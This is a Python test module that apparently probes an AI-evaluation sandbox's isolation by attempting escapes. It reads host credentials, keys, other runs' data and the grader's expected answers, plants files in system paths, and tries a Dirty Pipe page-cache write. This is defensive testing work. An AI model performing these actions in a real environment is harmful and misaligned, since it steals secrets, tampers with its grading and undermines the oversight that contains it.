"""To read or to change what the host, the grader, the site or a neighbour keeps in files and in memory."""

from __future__ import annotations

import contextlib
import ctypes
import errno
import mmap
import os
import re
import sqlite3
import struct

from tests.isolation.programs.attempt import (
    HOST,
    NEIGHBOUR,
    Facts,
    any_of,
    attempt,
    beginning_of,
    call,
    checked,
    in_every_way,
    libc,
)

#: As every secret of the host begins; not written so that it matches itself.
SECRET = re.compile(b"canary[0-9a-f]{32}")
SYSTEM = ("/usr", "/lib", "/lib64", "/proc", "/sys", "/bin", "/sbin", "/etc/alternatives", "/etc/ssl")
FOLDERS = ("/tmp", "/dev/shm", "/home/engineer", "/workspace/system", "/workspace/deliverables")


# to read


@attempt("database", HOST)
def read_the_database(facts: Facts) -> str | None:
    """Open the site's database and read the answers of others from it."""

    def stolen(path: str) -> object:
        if not os.path.exists(path):
            raise FileNotFoundError(2, path)
        with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as database:
            return database.execute("select text from answers").fetchall()

    return any_of(lambda p=p: stolen(p) for p in in_every_way(facts.secrets["database"]))


@attempt("database", HOST)
def write_into_the_database(facts: Facts) -> str | None:
    """Write into the site's database, by its file or by the journal that SQLite replays when it opens it."""
    path = facts.secrets["database"]
    ways = [*in_every_way(path), *in_every_way(f"{path}-wal"), *in_every_way(f"{path}-journal")]
    return any_of(lambda p=p: os.open(p, os.O_WRONLY) for p in ways)


@attempt("grader", HOST)
def read_the_graders_answers(facts: Facts) -> str | None:
    """Read the expected answers and the held-out data of the scenario."""
    ways = in_every_way(facts.secrets["answers"])
    ways += [f"/workspace/{name}/expected.csv" for name in ("grading", "held_out", "answers", "tests", "scenario")]
    return any_of(lambda p=p: beginning_of(p) for p in ways)


@attempt("grader", HOST)
def import_the_grader(facts: Facts) -> str | None:
    """Find the code that grades where Python looks for modules, or on the host's path of the checkout."""
    checkout = facts.secrets["checkout"]
    modules = ("grading/score.py", "scenarios/kit/__init__.py", "platform/fdegym/settings.py")
    ways = [f"{prefix}/{name}" for name in modules for prefix in in_every_way(checkout)]
    return any_of(lambda p=p: beginning_of(p) for p in ways)


@attempt("model files", HOST)
def read_the_models(facts: Facts) -> str | None:
    """Read the files of the models that understand what is written to the people."""
    return any_of(lambda p=p: beginning_of(p) for p in in_every_way(facts.secrets["model"]))


@attempt("other runs", HOST)
def read_the_storage_of_another_run(facts: Facts) -> str | None:
    """Read what the runtime keeps of a neighbour on the host."""
    return any_of(lambda p=p: beginning_of(p) for p in in_every_way(facts.secrets["storage"]))


@attempt("other runs", NEIGHBOUR)
def read_a_neighbours_files(facts: Facts) -> str | None:
    """Read a file that a neighbour has in a folder of the same name."""
    return any_of(lambda f=folder: beginning_of(f"{f}/{facts.neighbour_file}") for folder in FOLDERS)


@attempt("files of the host", HOST)
def read_a_secret_of_the_host(facts: Facts) -> str | None:
    """Read a file that everybody on the host may read, by its path and by every detour."""
    return any_of(lambda p=p: beginning_of(p) for p in in_every_way(facts.secrets["plain"]))


@attempt("files of the host", HOST)
def climb_out_of_a_shown_folder(facts: Facts) -> str | None:
    """Go up from a folder of the host that is shown, by a descriptor of it."""
    folder = os.open(facts.shown, os.O_RDONLY)
    return any_of(
        [lambda: os.stat("../outside.txt", dir_fd=folder), lambda: os.stat("file/../../outside.txt", dir_fd=folder)]
    )


@attempt("files of the host")
def follow_the_paths_of_mounts(facts: Facts) -> str | None:
    """Take the host's paths from the table of mounts, and look at what lies beside them."""
    with open("/proc/self/mountinfo") as file:
        roots = {line.split()[3] for line in file}
    parents = {os.path.dirname(root) for root in roots if root.count("/") > 1} - {"/", "/usr", "/etc", "/dev", "/run"}
    return any_of(lambda p=p: os.listdir(p) for parent in sorted(parents) for p in in_every_way(parent)[:2])


@attempt("files of the host", HOST)
def hunt_for_secrets(facts: Facts) -> str | None:
    """Read every file that can be reached outside the system's own folders."""
    for folder, folders, names in os.walk(facts.hunting_ground):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in SYSTEM]
        for name in names:
            with contextlib.suppress(OSError):
                descriptor = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK)
                with open(descriptor, "rb") as file:
                    if found := SECRET.search(file.read(1 << 20) or b""):
                        return f"{found[0]!r} in {folder}/{name}"
    return None


@attempt("files of the host")
def open_a_file_by_its_number(facts: Facts) -> str | None:
    """Open the root of the file system that a shown file lies on by its number, without a path."""
    root = struct.pack("=IiII", 8, 1, 2, 0)  # of most file systems the root has number 2
    handle = ctypes.create_string_buffer(root)
    folder = os.open(facts.shown, os.O_RDONLY)
    return any_of([lambda: call(facts, "open_by_handle_at", folder, handle, os.O_RDONLY)])


@attempt("files of the host")
def read_accounts_and_keys(facts: Facts) -> str | None:
    """Read the passwords and keys that every machine keeps in the same places."""
    names: tuple[str, ...] = (
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/sudoers",
        "/root",
        "/etc/ssh/ssh_host_rsa_key",
    )
    names += ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/var/lib/docker", "/etc/machine-id", "/boot")
    return any_of(lambda p=p: os.listdir(p) if os.path.isdir(p) else beginning_of(p) for p in names)


@attempt("files of the host", HOST)
def use_a_descriptor_that_was_left_open(facts: Facts) -> str | None:
    """Read from every descriptor beyond the three that each program has."""
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            return f"descriptor {number}: {os.pread(number, 200, 0)!r}"
    return None


@attempt("files of the host", HOST)
def attach_shared_memory_of_the_host(facts: Facts) -> str | None:
    """Attach System V shared memory of a process of the host, whose number it knows."""
    libc.shmat.restype = ctypes.c_void_p

    def attached() -> bytes:
        address = libc.shmat(facts.shared_memory, None, 0o10000)
        if address in (None, ctypes.c_void_p(-1).value):
            if ctypes.get_errno() == errno.EINVAL:
                raise FileNotFoundError(errno.ENOENT, "there is no memory of this number here")
            checked(-1)
        return ctypes.string_at(address, 64)

    return any_of([attached])


@attempt("files of the host", HOST)
def open_posix_memory_of_the_host(facts: Facts) -> str | None:
    """Open shared memory that a process of the host has under a name, in /dev/shm."""
    return any_of(lambda p=p: beginning_of(p) for p in in_every_way(f"/dev/shm/{facts.posix_memory}"))


# to change


@attempt("files of the host", HOST)
def write_over_a_shown_file(facts: Facts) -> str | None:
    """Write into a file that is shown, and that everybody may write where it comes from."""
    flags = (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_TRUNC)
    ways = [f"{facts.shown}/file", *(f"/proc/{who}/root{facts.shown}/file" for who in ("self", "1"))]
    acts = [lambda w=w, f=f: os.write(os.open(w, f), b"planted") for w in ways for f in flags]
    return any_of([*acts, lambda: os.truncate(f"{facts.shown}/file", 0)])


@attempt("files of the host", HOST)
def write_a_shown_file_by_mapping_it(facts: Facts) -> str | None:
    """Map a shown file, shared and for writing, and go behind a read-only mapping by /proc/self/mem."""
    path = f"{facts.shown}/file"

    def mapped(flags: int) -> str:
        descriptor = os.open(path, flags)
        with mmap.mmap(descriptor, 7, mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ) as shared:
            shared[:] = b"planted"
        return "a shared mapping"

    with contextlib.suppress(OSError), open(path, "rb") as file:
        with (
            mmap.mmap(file.fileno(), 7, mmap.MAP_PRIVATE, mmap.PROT_READ) as private,
            open("/proc/self/mem", "r+b", 0) as own,
        ):
            address = next(
                int(line.split("-")[0], 16) for line in open("/proc/self/maps") if line.rstrip().endswith(path)
            )
            own.seek(address)
            own.write(b"planted")  # may go into a copy of its own: whether it went further, the host sees
            del private
    return any_of([lambda: mapped(os.O_RDWR), lambda: mapped(os.O_RDONLY)])


@attempt("files of the host")
def write_through_a_pipe_into_the_page_cache(facts: Facts) -> str | None:
    """Have the kernel put a page of a shown file into a pipe, and write on behind it (as CVE-2022-0847 did)."""
    source = os.open(f"{facts.shown}/file", os.O_RDONLY)
    out, into = os.pipe()
    for _ in range(16):  # leaves marks on the pipe's buffers that were never taken away again
        os.write(into, bytes(4096))
    for _ in range(16):
        os.read(out, 4096)
    os.splice(source, into, 1, offset_src=0)
    os.write(into, b"planted")
    return None  # whether it went into the file, the host sees


@attempt("files of the host", HOST)
def remove_or_replace_a_shown_file(facts: Facts) -> str | None:
    """Remove, rename, exchange or create files in a folder that is shown."""
    shown = facts.shown
    return any_of(
        [
            lambda: open(f"{shown}/planted", "x"),
            lambda: os.rename(f"{shown}/file", f"{shown}/renamed"),
            lambda: os.unlink(f"{shown}/file"),
            lambda: os.symlink("/etc/passwd", f"{shown}/link"),
            lambda: os.mkdir(f"{shown}/folder"),
        ]
    )


@attempt("files of the host", HOST)
def change_what_a_shown_file_is(facts: Facts) -> str | None:
    """Change the mode, owner, times and attributes of a shown file."""
    path = f"{facts.shown}/file"
    return any_of(
        [
            lambda: os.chmod(path, 0o6777),
            lambda: os.chown(path, os.geteuid(), os.getegid()),
            lambda: os.utime(path, (1, 1)),
            lambda: os.setxattr(path, "user.planted", b"yes"),
        ]
    )


@attempt("files of the host", HOST)
def link_a_shown_file_into_its_own_folder(facts: Facts) -> str | None:
    """Give a shown file a second name where it may write, and write to that."""
    places = (f"{facts.shown}/second", *(f"{folder}/second" for folder in FOLDERS))
    return any_of(lambda p=p: os.link(f"{facts.shown}/file", p) for p in places)


@attempt("files of the host")
def write_into_the_system(facts: Facts) -> str | None:
    """Plant a file where every program of the sandbox, and perhaps of the host, would take it up."""
    names: tuple[str, ...] = (
        "/usr/bin/python3",
        "/usr/bin/planted",
        "/usr/local/bin/python",
        "/etc/ld.so.preload",
        "/etc/passwd",
        "/planted",
    )
    names += (
        "/etc/profile",
        "/opt/fdegym/launcher/fdegym_launcher/main.py",
        "/run/planted",
        "/dev/planted",
        "/workspace/x",
    )
    return any_of(lambda p=p: os.open(p, os.O_WRONLY | os.O_CREAT, 0o755) for p in names)
